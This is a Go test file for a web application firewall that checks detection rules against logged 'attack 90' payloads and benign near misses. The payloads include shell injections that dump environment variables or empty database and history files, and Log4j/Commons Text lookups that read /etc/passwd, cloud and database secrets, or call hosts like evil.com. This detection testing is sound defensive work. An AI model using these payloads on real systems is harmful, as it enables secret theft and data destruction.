package waf

import (
	"testing"
)

// attack90EnvDump are attack 90's environment dumps after a separator
// (bash's typeset, declare's synonym, alone or with -p/-x: each printed
// the process's variables on bash), and the same in what bash removes
// between letters; declare alone prints them too.
var attack90EnvDump = []string{"127.0.0.1;typeset -x", "127.0.0.1|typeset -x", "`typeset -x`", "x;typeset -px",
	"x;typeset -p", "x;typeset", "x;declare", "x && typeset -p", "x;t'y'pes\"e\"t -x", `x;ty\peset -p`, "x;type$@set",
	"x\ntypeset -x", "x;{ typeset -x; }", "x;(typeset)", "x|declare -f"}

// attack90EnvDumpCRS are those the CRS alone refuses in an argument.
var attack90EnvDumpCRS = []string{"x;declare -p", "x;declare -x", "$(typeset -p)"}

// attack90EnvDumpBenign are near misses: prose with typeset or declare
// after a separator, before a word, in a list, a Markdown table or inline
// code.
var attack90EnvDumpBenign = []string{"Q&A; typeset is a printing term", "fonts; typeset beautifully",
	"Typesetting; typeset by hand in 1900", "LaTeX | typeset the thesis", "`typeset` is the older name", "| typeset | declare |",
	"fonts;\ntypeset\nkerning", "tools: typeset -- the old way", "x; typeset -ish",
	"typeset -x", "the typesetter; typesetting"}

// attack90Truncate are attack 90's truncations (each emptied the file on
// bash) and their spellings: truncate with its options, a redirection
// with nothing or : before it, a file descriptor's digit, >|, quotes, a
// path.
var attack90Truncate = []string{"127.0.0.1;truncate -s0 victim.sqlite", "127.0.0.1;:>victim2.sqlite", "x;> db.sqlite",
	"x;truncate --size=0 db.sqlite", "x;truncate -s 0 /var/lib/app/db", "x;t'r'uncate -s0 a.db",
	"x;1>victim.sqlite", "x;:>|victim.sqlite", "x;>'db.sqlite'", "x\n>db.sqlite", "`>db.sqlite`",
	"x|>victim.sqlite", "x;{ >.env; }", "x&>app.log"}

// attack90TruncateCRS are those the CRS alone refuses in an argument.
var attack90TruncateCRS = []string{"x;truncate app.db -s0", "x && :>~/.bash_history", "x;>$HOME/.bashrc",
	"x;: > /var/www/html/index.php"}

// attack90TruncateBenign are near misses: prose with truncate, '>'
// after a separator before no file, pipe-forward operators, a Markdown
// quote and inline code naming a file.
var attack90TruncateBenign = []string{"a; > b", "see below; > 5 items", "ratio 3:>2",
	"speed; > 2.5x faster", "xs |> List.map f", "query |> Repo.all |> Enum.count", "Re:\n> notes.txt has the details",
	"use `> out.txt` to save it", "cost; >5 items", "heights;>6.5ft", "a; > e.g. the next", "v2;>v1.2", "x >> log.txt",
	"<b>index.html</b>", "x;>>app.log", "Tip; > README first", "Step 2; > see docs/guide for more"}

// attack90ProseCRS are near misses the CRS alone refuses in an argument
// (942350 reads TRUNCATE after ';' as SQL; 932 rules), read by the
// operators alone and sent in a header.
var attack90ProseCRS = []string{"x; truncate the list", "Keep it short; truncate titles over 80 chars", "1>2 and 3>2.5",
	"we declare; declare nothing else"}

// TestAttack90Shell: rules 210223 and 210224 refuse attack 90's
// environment dumps and truncations, in the query, JSON and the
// User-Agent and Referer, where the CRS alone lets them through, and no
// near miss.
func TestAttack90Shell(t *testing.T) {
	operatorTable(t, "210223", shellEnvDump, attack90EnvDump, attack90EnvDumpCRS, attack90EnvDumpBenign)
	operatorTable(t, "210224", shellTruncate, attack90Truncate, attack90TruncateCRS, attack90TruncateBenign)
	for _, v := range attack90ProseCRS {
		if shellEnvDump(v) || shellTruncate(v) {
			t.Errorf("210223 or 210224 matches the benign %q", v)
		}
	}
	h := headerProbe
	runBeyondTheCRS(t, nil,
		[]probe{h("User-Agent typeset", "User-Agent", "127.0.0.1;typeset -x"), h("Referer typeset", "Referer", "x;typeset"),
			h("User-Agent declare -p", "User-Agent", "x;declare -p"), h("User-Agent truncate", "User-Agent", "127.0.0.1;truncate -s0 victim.sqlite"),
			h("Referer :>", "Referer", "127.0.0.1;:>victim2.sqlite"), h("User-Agent >", "User-Agent", "x;> db.sqlite")},
		[]probe{h("User-Agent truncate the list", "User-Agent", "x; truncate the list"),
			h("User-Agent typeset is", "User-Agent", "Q&A; typeset is a printing term"),
			h("User-Agent typeset beautifully", "User-Agent", "fonts; typeset beautifully"),
			h("Referer a; > b", "Referer", "a; > b"), h("User-Agent see below", "User-Agent", "see below; > 5 items"),
			h("User-Agent ratio", "User-Agent", "ratio 3:>2"),
			h("User-Agent Chrome", "User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"),
			h("User-Agent Android", "User-Agent", "Dalvik/2.1.0 (Linux; U; Android 13; Pixel 7 Build/TQ3A.230805.001)"),
			h("User-Agent aws-sdk-java", "User-Agent", "aws-sdk-java/2.20.162 Linux/5.10.199 OpenJDK_64-Bit_Server_VM/17.0.8+7-LTS Java/17.0.8 vendor/Amazon.com_Inc. io/sync http/Apache cfg/retry-mode/legacy"),
			h("Referer a search", "Referer", "https://www.example.com/search?q=typeset+-x+bash&lang=en"),
			h("Referer a file", "Referer", "https://example.com/files/db.sqlite;jsessionid=1"),
			h("User-Agent pipe-forward", "User-Agent", "xs |> List.map f"),
			h("User-Agent truncate titles", "User-Agent", "Keep it short; truncate titles over 80 chars"),
			h("User-Agent declare", "User-Agent", "we declare; declare nothing else")})
}

// attack90Lookups are attack 90's lookups of Commons Text's
// createInterpolator() and Log4j's, each run on real software, as the
// CRS refuses them in an argument (932130, 930120).
var attack90Lookups = []string{"Mozilla/5.0 ${file:UTF-8:/etc/passwd}", "${xml:/etc/passwd:/a}",
	"${properties:/app/application.properties::db.password}", "${url:UTF-8:http://evil/}", "${dns:address|evil.com}",
	"${spring:spring.datasource.password}", "${bundle:application:db.password}", "${env:AWS_SECRET_ACCESS_KEY}",
	"${sys:user.home}", "${const:com.example.Config.DB_PASSWORD}", "${base64Decoder:SGVsbG8=}", "${java:version}",
	"${FILE:UTF-8:/etc/passwd}", "${ file :UTF-8:/etc/passwd}", "${resourceBundle:app:db.password}", "${localhost:name}",
	"${doc\u212aer:containerId}", "${script:javascript:1+1}",
	// a review: Commons Text's deprecated alias base64 (base64Decoder's:
	// printed the secret on Commons Text 1.10), KEY_LOOPBACK_ADDRESS's
	// misspelt value, Log4j's kubernetes
	"${BASE64:JHtlbnY6U0VDUkVUX1RPS0VOfQ==}", "Mozilla/5.0 ${base64:JHtzeXM6dXNlci5ob21lfQ==}", "${loobackAddress:name}",
	"${kubernetes:namespaceName}"}

// attack90LookupBenign are near misses for the lookups' reading alone:
// real User-Agents of browsers, bots and SDKs, and prose.
var attack90LookupBenign = []string{
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
	"Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
	"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
	"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
	"curl/8.5.0", "python-requests/2.31.0", "okhttp/4.12.0", "Go-http-client/1.1", "Apache-HttpClient/4.5.14 (Java/17.0.2)",
	"aws-sdk-java/2.20.162 Linux/5.10.199 OpenJDK_64-Bit_Server_VM/17.0.8+7-LTS Java/17.0.8 vendor/Amazon.com_Inc. io/sync http/Apache cfg/retry-mode/legacy",
	"Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
	"the file: a list; env: prod; sys: linux", "Java: version 17"}

// attack90LookupTemplates are near misses in a Referer: a URL whose
// template was not filled in (${ with a name no lookup has, or no ':').
var attack90LookupTemplates = []string{"https://example.com/users/${id}/edit", "https://app.example.com/search?q=${query}&page=${page:1}",
	"https://example.com/${lang}/docs", "https://cdn.example.com/${env}/app.js", "https://example.com/?tpl=${envName:prod}",
	"https://shop.example.com/p/${product.sku}", "https://example.com/a?x=${java}", "https://example.com/${fileId}:view",
	"https://example.com/${ sysop }/", "https://example.com/$${file}", "https://example.com/${server.port:8080}/x",
	"https://example.com/${dateFormat:yyyy}", "https://example.com/?img=${base64}", "https://example.com/${base64Img:png}"}

// TestAttack90Lookups: rule 210225 refuses attack 90's lookups in the
// User-Agent and the Referer, which the CRS alone lets through there (it
// refuses them in an argument, and ${jndi: and nested ones everywhere),
// and no real User-Agent or Referer with a template.
func TestAttack90Lookups(t *testing.T) {
	for _, v := range concat(attack90LookupTemplates, []string{"${", "x${", "${${", "${file", "${filex:", "${${}"}) {
		if javaLookup(v) {
			t.Errorf("210225 matches the benign %q", v)
		}
	}
	for _, v := range []string{"${${lower:f}ile:/etc/passwd}", "${${::-f}ile:/etc/passwd}", "${f${::-i}le:/etc/passwd}", "${jndi:ldap://e/a}"} {
		if !javaLookup(v) {
			t.Errorf("210225 misses %q", v)
		}
	}
	operatorTable(t, "210225", javaLookup, nil, attack90Lookups, attack90LookupBenign)
	h := headerProbe
	var misses, passes []probe
	for i, v := range attack90Lookups {
		if i%2 == 0 {
			misses = append(misses, h("User-Agent "+v, "User-Agent", v))
		} else {
			misses = append(misses, h("Referer "+v, "Referer", v))
		}
	}
	for _, v := range attack90LookupBenign {
		passes = append(passes, h("User-Agent "+v, "User-Agent", v))
	}
	for _, v := range attack90LookupTemplates {
		passes = append(passes, h("Referer "+v, "Referer", v))
	}
	runBeyondTheCRS(t,
		[]probe{h("User-Agent ${jndi:", "User-Agent", "${jndi:ldap://e/a}"), h("Referer nested", "Referer", "${${lower:f}ile:/etc/passwd}")},
		misses, passes)
}
